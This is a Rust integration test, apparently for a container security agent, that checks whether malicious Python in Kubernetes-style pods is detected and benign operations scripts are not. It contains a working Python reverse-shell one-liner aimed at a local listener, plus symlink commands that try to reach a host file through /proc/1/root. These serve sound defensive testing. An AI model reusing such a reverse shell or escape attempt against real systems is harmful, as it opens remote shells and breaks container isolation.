//! Privileged: Python code run in real CRI pods is captured and judged. A malicious script, a
//! `-c` one-liner and a script fed on standard input raise `Execution: Malicious Python executed`
//! with the right contents and sha256; benign Python raises nothing, ordinary operations scripts
//! (a backup job, a plugin loader, an asyncio self-test, a C-extension build) included; a script that is a symlink to a host path yields no
//! host data in any finding.

use shrike_tests::{agent, common, containerd, scc_model};
use agent::{listen, start_agent};
use common::{privileged, DROPPER};
use containerd::{Containerd, PodSpec};
use serde_json::Value;
use sha2::{Digest, Sha256};

const PYTHON: &str = "Execution: Malicious Python executed";

const BENIGN: &str = "import argparse\n\ndef main():\n    p = argparse.ArgumentParser(description='sum numbers')\n    p.add_argument('n', nargs='*', type=int)\n    print(sum(p.parse_args().n))\n\nif __name__ == '__main__':\n    main()\n";

fn python_findings<'a>(findings: &'a [Value], pod: &str) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod && f["finding"]["category"] == PYTHON)
        .collect()
}

#[tokio::test(flavor = "current_thread")]
async fn python_code_is_captured_and_judged_in_containers() {
    if !privileged("python_code_is_captured_and_judged_in_containers") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("python");
    std::fs::create_dir_all(&dir).unwrap();
    // Scripts are handed to the containers through a read-only mount of this directory.
    let scripts = dir.join("scripts");
    std::fs::create_dir_all(&scripts).unwrap();
    std::fs::write(scripts.join("dropper.py"), DROPPER).unwrap();
    std::fs::write(scripts.join("sum.py"), BENIGN).unwrap();
    // Ordinary operations code that uses what malware uses (base64, exec of a file, sockets, a
    // setup.py that runs git and builds a C extension): none of it may raise anything.
    let ops = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/python/ops");
    std::fs::create_dir_all(scripts.join("ext")).unwrap();
    for f in ["backup_manifest.py", "plugin_loader.py", "echo_selftest.py", "ext/setup.py", "ext/fastsum.c"] {
        std::fs::copy(ops.join(f), scripts.join(f)).unwrap();
    }
    // The host's own secret, which no finding may ever contain.
    let host_secret = dir.join("host-secret.txt");
    let secret = format!("HOST-SECRET-{}", std::process::id());
    std::fs::write(&host_secret, format!("import os\nos.system('id')  # {secret}\n")).unwrap();

    let agent = start_agent(&dir, "py", &ctrd.socket, false);
    let mut pods = Vec::new();
    let spec = |name: &str, cmd: &str| {
        let mut s = PodSpec::new(name, &["/bin/sh", "-c", cmd]);
        s.extra_mounts.push((scripts.clone(), "/scripts".into(), true));
        s
    };
    // A malicious script, copied into the container and run from its working directory.
    pods.push(ctrd.run_pod(&spec("py-script", "mkdir -p /work && cp /scripts/dropper.py /work/job.py && cd /work && python3 job.py")).await);
    // A reverse-shell one-liner given with -c (against a listener that just hangs up).
    let l = listen("exit()\n");
    let one_liner = format!(
        "import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
        l.port
    );
    pods.push(ctrd.run_pod(&spec("py-inline", &format!("python3 -c '{one_liner}'"))).await);
    let _ = l.thread.join();
    // Benign Python.
    pods.push(ctrd.run_pod(&spec("py-benign", "python3 /scripts/sum.py 1 2 3; python3 -c 'print(42)'")).await);
    // A script that is a symlink to a host path: inside the container it resolves inside the
    // container (where it does not exist), never to the host file.
    let link_cmd = format!("ln -s {} /tmp/evil.py; python3 /tmp/evil.py; ln -s /proc/1/root{} /tmp/evil2.py; python3 /tmp/evil2.py; true", host_secret.display(), host_secret.display());
    pods.push(ctrd.run_pod(&spec("py-symlink", &link_cmd)).await);

    // Code fed on standard input from a file is read through the process's descriptor: the
    // malicious one is judged, the benign one is not flagged.
    pods.push(ctrd.run_pod(&spec("py-stdin", "cd /tmp && python3 - < /scripts/dropper.py; true")).await);
    pods.push(ctrd.run_pod(&spec("py-stdin-benign", "python3 - 1 2 3 < /scripts/sum.py")).await);
    let ops_runs = [
        ("py-ops-backup", "echo '{\"app\": \"web\", \"replicas\": 3}' > /tmp/manifest.json && python3 /scripts/backup_manifest.py /tmp/manifest.json"),
        ("py-ops-plugins", "mkdir -p /tmp/plugins && printf 'def register(hooks):\\n    hooks.on_startup(lambda: print(\"ready\"))\\n' > /tmp/plugins/ready.py && python3 /scripts/plugin_loader.py"),
        ("py-ops-echo", "python3 /scripts/echo_selftest.py"),
        ("py-ops-cext", "cp -r /scripts/ext /tmp/ext && cd /tmp/ext && python3 setup.py -q build_ext --inplace && python3 -c 'import fastsum; print(fastsum.total([1, 2, 3]))'"),
    ];
    for (name, cmd) in ops_runs {
        pods.push(ctrd.run_pod(&spec(name, cmd)).await);
    }

    // Let the pods finish (they are short), then stop the agent.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    for p in &pods {
        while std::time::Instant::now() < deadline && std::path::Path::new(&format!("/proc/{}", p.pid)).exists() {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }
    let (findings, log) = agent.stop();
    for f in &findings {
        scc_model::assert_valid_finding(f);
        let text = f.to_string();
        assert!(!text.contains(&secret), "a finding leaked host data: {text}");
    }

    let script = python_findings(&findings, "py-script");
    assert_eq!(script.len(), 1, "one finding for the malicious script: {findings:#?}\n{log}");
    let f = &script[0]["finding"];
    assert_eq!(f["severity"], "CRITICAL");
    let s = &f["processes"][0]["script"];
    assert_eq!(s["path"], "job.py");
    assert_eq!(s["contents"].as_str().unwrap(), DROPPER);
    let sha: String = Sha256::digest(DROPPER.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(s["sha256"].as_str().unwrap(), sha);
    assert_eq!(s["size"].as_str().unwrap(), DROPPER.len().to_string());
    assert!(f["processes"][0]["binary"]["path"].as_str().unwrap().contains("python3"), "the interpreter is the binary");
    assert_eq!(f["sourceProperties"]["Python_Code_Source"], "script");
    assert!(f["sourceProperties"]["Python_Model_Score"].as_f64().unwrap() >= f["sourceProperties"]["Python_Model_Threshold"].as_f64().unwrap());
    assert!(f["sourceProperties"]["Python_Model_Version"].as_str().unwrap().starts_with("py-"));
    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "PYTHON");
    // The features behind the verdict, as `shrike scan` lists them.
    let evidence = f["sourceProperties"]["Python_Model_Evidence"].as_array().expect("evidence");
    assert!(!evidence.is_empty() && evidence.len() <= 8, "{evidence:?}");
    assert!(evidence.iter().all(|e| e["feature"].as_str().is_some_and(|s| !s.is_empty()) && e["contribution"].is_number()), "{evidence:?}");
    assert!(evidence.iter().any(|e| e["contribution"].as_f64().unwrap() > 0.0), "something pushed it over: {evidence:?}");

    let inline = python_findings(&findings, "py-inline");
    assert_eq!(inline.len(), 1, "one finding for the -c one-liner: {findings:#?}");
    let f = &inline[0]["finding"];
    assert_eq!(f["sourceProperties"]["Python_Code_Source"], "argument");
    assert!(f["sourceProperties"]["Python_Model_Evidence"].as_array().is_some_and(|e| !e.is_empty()), "evidence for -c code too");
    assert!(f["processes"][0]["args"].as_array().unwrap().iter().any(|a| a.as_str().unwrap().contains("pty.spawn")), "the code is in args");
    assert!(f["processes"][0].get("script").is_none(), "no script for -c");

    assert!(python_findings(&findings, "py-benign").is_empty(), "benign Python: {findings:#?}");

    let stdin = python_findings(&findings, "py-stdin");
    assert_eq!(stdin.len(), 1, "one finding for the script fed on stdin: {findings:#?}\n{log}");
    let f = &stdin[0]["finding"];
    assert_eq!(f["sourceProperties"]["Python_Code_Source"], "stdin");
    assert_eq!(f["processes"][0]["script"]["contents"].as_str().unwrap(), DROPPER, "the code read is the file on stdin");
    assert!(python_findings(&findings, "py-stdin-benign").is_empty(), "benign code on stdin: {findings:#?}");
    for (name, _) in ops_runs {
        assert!(python_findings(&findings, name).is_empty(), "ordinary operations code flagged in {name}: {findings:#?}");
    }
    // The C extension was really built and run (its compiler run is reported, as it should be).
    assert!(
        findings.iter().any(|f| f["finding"]["sourceProperties"]["Pod_Name"] == "py-ops-cext" && f["finding"]["category"].as_str().unwrap().contains("Compiler")),
        "the extension build ran gcc in the pod: {findings:#?}\n{log}"
    );
    assert!(python_findings(&findings, "py-symlink").is_empty(), "nothing was read through the symlinks");

    for p in &pods {
        ctrd.remove_pod(p).await;
    }
    ctrd.stop();
}
